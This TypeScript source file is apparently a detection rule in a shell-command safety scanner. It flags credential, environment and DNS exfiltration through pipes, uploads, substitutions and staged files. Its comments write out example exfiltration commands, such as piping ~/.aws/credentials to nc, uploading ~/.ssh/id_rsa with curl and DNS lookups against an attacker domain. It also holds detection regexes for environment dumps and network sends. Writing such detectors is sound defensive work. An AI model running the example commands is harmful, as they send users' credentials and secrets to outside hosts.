import { classifyPath, DNS_TOOLS, interpreterCode, isLocalHost, NET_SINKS, normalizePath, optValues, positionals, RAW_NET, SECRET_CLASSES, uploadedFiles, urlHost, type PathInfo, type ShellCommand } from '../../shell/index.js';
import type { RuleContext } from '../context.js';
import { basename } from '../util.js';

const WEAK_SECRETS = new Set(['env-file', 'shell-history', 'ssh-config', 'cloud-config', 'project-npmrc']);
const ENV_DUMP_CODE = /\bos\.environ\b(?!\s*(?:\.get|\[))|\bprocess\.env\b(?!\s*(?:\.|\[))|%ENV\b|\bENV\.to_h\b|\bgetenv\s*\(\s*\)|\$_ENV\b|Get-ChildItem\s+env:/;
const SEND_CODE = /\b(?:urlopen|urllib\.request|requests\.(?:post|put|get)|httpx\.|http\.request|https\.request|fetch\s*\(|axios|LWP::UserAgent|Net::HTTP|socket\.(?:send|connect)|curl_exec|Invoke-WebRequest|Invoke-RestMethod)/;

interface Secret { what: string; weak: boolean; env?: boolean }

/** Credential exfiltration: secrets or environment dumps sent to another host. */
export function exfiltration(ctx: RuleContext, c: ShellCommand, i: number): void {
  const sink = NET_SINKS.has(c.name) && isSending(c);
  if (sink) {
    const host = remoteHost(c);
    if (host === 'local') return;
    const where = host ? ` to ${host}` : '';
    // 1. A secret flows in through the pipe: env | curl -d @- …, cat ~/.aws/credentials | nc host 9.
    for (const j of ctx.upstream(i)) {
      const s = secretSource(ctx, j);
      if (s) { report(ctx, c, ctx.cmds[j]!, s, `${s.what} piped to ${c.name}${where}`); return; }
    }
    // 2. A secret file is an upload argument or redirected in: curl -F f=@~/.ssh/id_rsa, scp ~/.aws/credentials host:, nc host < .env.
    for (const f of sentFiles(c)) {
      const n = normalizePath(f, c.cwd !== '?' ? c.cwd : undefined);
      const info = n ? classifyPath(n) : undefined;
      if (info && SECRET_CLASSES.has(info.cls)) { report(ctx, c, c, { what: cap(info.label), weak: WEAK_SECRETS.has(info.cls) }, `${cap(info.label)} sent by ${c.name}${where}`); return; }
      // A file staged earlier from a secret: env > /tmp/e; curl -F f=@/tmp/e …
      const staged = stagedSecret(ctx, i, f);
      if (staged) { report(ctx, c, c, staged, `${staged.what} (staged in ${basename(f)}) sent by ${c.name}${where}`); return; }
    }
    // 3. A secret is substituted into the arguments: curl -d "$(cat ~/.aws/credentials)" …, curl "…?d=$(env | base64)".
    for (const j of ctx.descendants(i)) {
      const d = ctx.cmds[j]!;
      if (d.via !== 'cmdsub' && d.via !== 'procsub') continue;
      const s = secretSource(ctx, j);
      if (s) { report(ctx, c, c, s, `${s.what} substituted into a ${c.name} command${where}`); return; }
    }
    // 4. Any file piped into a raw socket to another host.
    if (RAW_NET.has(c.name) && host !== undefined) {
      const reader = ctx.upstream(i).find((j) => ctx.accesses(j).some((x) => x.mode === 'read' && x.strong));
      if (reader !== undefined || c.redirects.some((r) => r.op === '<' && !r.target.startsWith('/dev/'))) {
        ctx.report(c, 'data-exfiltration', 'medium', 0.6, `Local files are sent over a raw connection to ${host}; confirm with the user that this data may leave the machine.`);
      }
    }
  }
  // 5. DNS exfiltration: dig $(…).attacker.tld, nslookup `whoami`.evil.
  if (DNS_TOOLS.has(c.name)) {
    // A lookup of exactly a command's output (host $(hostname)) names a host; output spliced into a longer name smuggles it.
    const spliced = (k: number): boolean => { const w = c.argv[k] ?? ''; return !/^(?:\$\([^()]*\)|`[^`]*`)$/.test(w); };
    const subs = ctx.children(i).filter((j) => ctx.cmds[j]!.via === 'cmdsub' && ctx.cmds[j]!.argIndex >= 1 && spliced(ctx.cmds[j]!.argIndex));
    if (subs.length > 0) {
      const secret = ctx.descendants(i).map((j) => secretSource(ctx, j)).find((s) => s !== undefined);
      const trivial = subs.every((j) => /^(?:hostname|whoami|id|uname|date|logname|echo|printf)$/.test(ctx.cmds[j]!.name));
      if (secret) ctx.report(c, 'dns-exfiltration', 'critical', 0.95, `${secret.what} is encoded into a DNS lookup by ${c.name}, which leaks it to whoever runs that domain's nameserver; do not send secrets over the network.`);
      else ctx.report(c, 'dns-exfiltration', trivial ? 'medium' : 'high', trivial ? 0.5 : 0.8, `${c.name} looks up a hostname built from command output, a known way to smuggle data out through DNS; use a fixed hostname.`);
    }
  }
  // 6. Interpreter one-liners that post the whole environment.
  const code = interpreterCode(c);
  if (code !== undefined && ENV_DUMP_CODE.test(code) && SEND_CODE.test(code)) {
    ctx.report(c, 'env-exfiltration', 'critical', 0.85, `This ${c.name} one-liner sends the whole environment (with its tokens and keys) over the network; never upload environment variables.`);
  }
}

function report(ctx: RuleContext, sink: ShellCommand, src: ShellCommand, s: Secret, how: string): void {
  const span = sink.path === src.path ? { ...sink, start: Math.min(sink.start, src.start), end: Math.max(sink.end, src.end) } : sink;
  // A .env or history file copied to a host the user reaches over SSH is usually a deployment; elsewhere it is a leak.
  const deploy = s.weak && (sink.name === 'scp' || sink.name === 'rsync' || sink.name === 'sftp' || sink.name === 'ssh');
  const severity = deploy ? 'medium' : s.weak ? 'high' : 'critical';
  ctx.report(span, s.env ? 'env-exfiltration' : 'credential-exfiltration', severity, deploy ? 0.6 : s.weak ? 0.8 : 0.95, `Secrets leave the machine: ${how.charAt(0).toLowerCase()}${how.slice(1)}. Never upload credentials or environment variables.`);
}

/** Whether command j prints secrets: env dumps, secret files, keychain or key exports (or its substitutions do). */
function secretSource(ctx: RuleContext, j: number, depth = 0): Secret | undefined {
  const c = ctx.cmds[j]!;
  const a = c.argv;
  if ((c.name === 'env' && a.length === 1) || (c.name === 'printenv' && a.length === 1) || (c.name === 'set' && a.length === 1) || ((c.name === 'export' || c.name === 'declare' || c.name === 'typeset') && (a.length === 1 || a.includes('-p') || a.includes('-x'))) || (c.name === 'compgen' && a.includes('-e'))) {
    return { what: 'The environment (with its tokens and keys)', weak: false, env: true };
  }
  if (c.name === 'printenv' && a.slice(1).some((x) => /KEY|SECRET|TOKEN|PASS|CRED|AUTH/i.test(x))) return { what: `The ${a[1]} variable`, weak: false, env: true };
  if (c.name === 'security' && /^(?:find-generic-password|find-internet-password|dump-keychain|export)$/.test(a[1] ?? '')) return { what: 'Keychain secrets', weak: false };
  if ((c.name === 'gpg' || c.name === 'gpg2') && a.some((x) => x.startsWith('--export-secret'))) return { what: 'GPG private keys', weak: false };
  if (c.name === 'aws' && a[1] === 'configure' && (a[2] === 'export-credentials' || (a[2] === 'get' && /secret|key|token/i.test(a[3] ?? '')))) return { what: 'AWS credentials', weak: false };
  if (c.name === 'git' && a.includes('credential') && a.includes('fill')) return { what: 'Git credentials', weak: false };
  if ((c.name === 'kubectl' || c.name === 'oc') && a.includes('config') && a.includes('view') && a.includes('--raw')) return { what: 'The raw kubeconfig', weak: false };
  for (const acc of ctx.accesses(j)) {
    if (acc.mode !== 'read' || (!acc.strong && depth > 0)) continue;
    const n = normalizePath(acc.path, c.cwd !== '?' ? c.cwd : undefined);
    const info: PathInfo | undefined = n ? classifyPath(n) : undefined;
    if (info && SECRET_CLASSES.has(info.cls)) return { what: cap(info.label), weak: WEAK_SECRETS.has(info.cls) };
  }
  if (depth < 3) {
    for (const k of ctx.children(j)) {
      const d = ctx.cmds[k]!;
      if (d.via !== 'cmdsub' && d.via !== 'procsub') continue;
      const s = secretSource(ctx, k, depth + 1);
      if (s) return s;
    }
  }
  return undefined;
}

/** A file written earlier in the same command line from a secret source (env > /tmp/e). */
function stagedSecret(ctx: RuleContext, i: number, file: string): Secret | undefined {
  const b = basename(file);
  for (let j = Math.max(0, i - 32); j < i; j++) {
    const w = ctx.cmds[j]!;
    if (w.path !== ctx.cmds[i]!.path) continue;
    if (!w.redirects.some((r) => (r.op === '>' || r.op === '>>' || r.op === '&>') && r.fd !== 2 && basename(r.target) === b)) continue;
    const s = secretSource(ctx, j);
    if (s) return s;
  }
  return undefined;
}

function cap(s: string): string {
  return s.charAt(0).toUpperCase() + s.slice(1);
}

/** The command sends data (not just fetches): uploads, pipes into a socket, copies to a remote. */
function isSending(c: ShellCommand): boolean {
  const a = c.argv;
  switch (c.name) {
    case 'nc': case 'ncat': case 'netcat': case 'telnet': case 'socat': case 'cryptcat':
      return !a.some((x) => /^-[a-zA-Z]*l/.test(x) || x === '--listen');
    case 'openssl': return a[1] === 's_client';
    case 'aws': return a[1] === 's3' && (a[2] === 'cp' || a[2] === 'sync' || a[2] === 'mv');
    case 'gsutil': return a[1] === 'cp' || a[1] === 'rsync';
    case 'gh': return a[1] === 'gist' || (a[1] === 'api' && a.some((x) => x === '-f' || x === '-F' || x === '--input'));
    case 'az': return a.includes('upload') || a.includes('upload-batch');
    default: return true;
  }
}

/** Local files this command sends away. */
function sentFiles(c: ShellCommand): string[] {
  const out = uploadedFiles(c).map((x) => x.path);
  for (const r of c.redirects) if (r.op === '<' && r.target) out.push(r.target);
  const a = c.argv;
  switch (c.name) {
    case 'scp': case 'rsync': case 'sftp': case 'rclone': {
      const ps = positionals(a, new Set(['-i', '-F', '-P', '-o', '-e', '-c', '-l', '-S', '-J', '--exclude', '--include', '--rsh', '--port']));
      const remote = ps.some((x) => /^[^/\s]{1,256}:/.test(x) && !/^[a-zA-Z]:[\\/]/.test(x));
      if (remote && ps.length >= 2) for (const x of ps.slice(c.name === 'rclone' ? 1 : 0, -1)) if (!/^[^/\s]{1,256}:/.test(x)) out.push(x);
      break;
    }
    case 'mail': case 'mailx': case 'mutt': case 'sendmail':
      out.push(...optValues(a, ['-A', '-a'], ['--attach']));
      break;
    case 'aws': case 'gsutil':
      for (const x of positionals(a)) if (!/^(?:s3|gs):\/\//.test(x) && !['cp', 's3', 'sync', 'mv', 'rsync'].includes(x)) out.push(x);
      break;
    case 'gh':
      if (a[1] === 'gist') out.push(...positionals(a).slice(2));
      break;
  }
  return out;
}

/** "local" when every destination is this machine; the remote host when known; undefined when not known. */
function remoteHost(c: ShellCommand): string | undefined {
  const a = c.argv;
  const hosts: string[] = [];
  switch (c.name) {
    case 'curl': case 'wget': case 'wget2': case 'http': case 'https': case 'xh':
      for (const x of positionals(a, new Set(['-X', '-H', '-d', '--data', '--data-binary', '-F', '--form', '-o', '-T', '-u', '-A', '-e', '--json', '--data-urlencode', '-O', '--header', '--post-data', '--post-file', '-w', '-m', '--data-raw']))) {
        if (/^(?:https?|ftp|telnet|dict|gopher|smtp):\/\//i.test(x) || /^[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63})+(?::\d{1,5})?(?:\/|$)/i.test(x) || /^localhost(?::\d+)?(?:\/|$)/.test(x)) {
          const h = urlHost(x);
          if (h) hosts.push(h);
        }
      }
      break;
    case 'nc': case 'ncat': case 'netcat': case 'telnet': case 'cryptcat': {
      const ps = positionals(a, new Set(['-p', '-s', '-w', '-i', '-q', '-x', '-X', '-e', '-c', '--exec', '--sh-exec']));
      if (ps[0]) hosts.push(ps[0]);
      break;
    }
    case 'socat':
      for (const x of a.slice(1)) { const m = /^(?:tcp|tcp4|tcp6|udp|udp4|udp6|openssl|ssl|tcp-connect|openssl-connect)[-:]([^:,]{1,253})/i.exec(x); if (m) hosts.push(m[1]!); }
      break;
    case 'ssh': case 'scp': case 'sftp': case 'rsync':
      for (const x of positionals(a, new Set(['-i', '-F', '-P', '-p', '-o', '-e', '-l', '-J', '-c']))) {
        const m = /^(?:[^@/\s]{1,64}@)?([^:/\s]{1,253}):/.exec(x) ?? (c.name === 'ssh' ? /^(?:[^@/\s]{1,64}@)?([^:/\s]{1,253})$/.exec(x) : null);
        if (m) { hosts.push(m[1]!); if (c.name === 'ssh') break; }
      }
      break;
    case 'openssl':
      for (const x of optValues(a, [], []).concat(a.filter((_x, k) => a[k - 1] === '-connect'))) hosts.push(x.replace(/:\d+$/, ''));
      break;
    default:
      return undefined;
  }
  if (hosts.length === 0) return undefined;
  return hosts.find((h) => !isLocalHost(h)) ?? 'local';
}
